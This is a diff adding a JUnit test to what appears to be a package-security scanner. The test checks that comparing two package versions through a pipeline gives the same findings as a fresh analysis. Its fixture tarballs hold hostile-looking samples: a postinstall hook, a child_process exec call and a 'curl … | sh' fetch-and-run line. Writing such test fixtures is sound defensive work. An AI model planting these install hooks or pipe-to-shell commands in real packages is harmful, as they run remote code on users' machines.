@@ -291,4 +291,43 @@ class DiffPipelineTest {
                     .isInstanceOf(InputException.class).hasMessageContaining("is not a git revision");
         }
     }
+
+    @Test
+    void theOldVersionsFactsOfUnchangedFiles_giveTheDiffAFreshAnalysisGives() throws Exception {
+        String kept = "const https = require('https');\nmodule.exports = (u) => https.get(u);\n";
+        byte[] old = TarballBuilder.tarball()
+                .file("package/package.json", "{\"name\":\"k\",\"version\":\"1.0.0\","
+                        + "\"scripts\":{\"postinstall\":\"node setup.txt\"}}")
+                .file("package/net.js", kept).file("package/setup.txt", "require('child_process').exec('id');\n")
+                .file("package/run.sh", "curl https://example.com/x | sh\n").build();
+        byte[] neu = TarballBuilder.tarball()
+                .file("package/package.json", "{\"name\":\"k\",\"version\":\"1.0.1\"}")
+                .file("package/net.js", kept).file("package/setup.txt", "require('child_process').exec('id');\n")
+                .file("package/run.sh", "curl https://example.com/x | sh\n")
+                .file("package/extra.js", "process.env.HOME;\n").build();
+        Files.write(work.resolve("k-1.0.0.tgz"), old);
+        Files.write(work.resolve("k-1.0.1.tgz"), neu);
+
+        PackageDiff viaStage = diff(registry, work, new DiffOptions.Packages("k-1.0.0.tgz", "k-1.0.1.tgz"))
+                .entries().getFirst().diff();
+
+        dev.portcullis.analysis.PackageAnalyzer analyzer = dev.portcullis.analysis.PackageAnalyzer.withDefaultRules();
+        java.util.function.Function<byte[], dev.portcullis.diff.PackageSide> fresh = bytes -> {
+            try {
+                var input = dev.portcullis.analysis.PackageInput.of(dev.portcullis.tarball.TarballReader.read(
+                        new java.io.ByteArrayInputStream(bytes), dev.portcullis.tarball.TarballLimits.defaults()));
+                var analysed = analyzer.analyzeWithFacts(input);
+                return new dev.portcullis.diff.PackageSide(input.name(), input.version(), input.files(),
+                        analysed.facts(), dev.portcullis.analysis.meta.TarballManifest.of(input.files()).orElse(null),
+                        dev.portcullis.diff.PackageSide.Publication.LOCAL, analysed.analysis().findings());
+            } catch (IOException e) {
+                throw new java.io.UncheckedIOException(e);
+            }
+        };
+        PackageDiff direct = new dev.portcullis.diff.PackageDiffer(dev.portcullis.diff.DiffLimits.defaults())
+                .diff(fresh.apply(old), fresh.apply(neu));
+        assertThat(viaStage.capabilities()).isEqualTo(direct.capabilities()).isNotEmpty();
+        assertThat(viaStage.newFindings()).isEqualTo(direct.newFindings());
+        assertThat(viaStage.files()).isEqualTo(direct.files());
+    }
 }
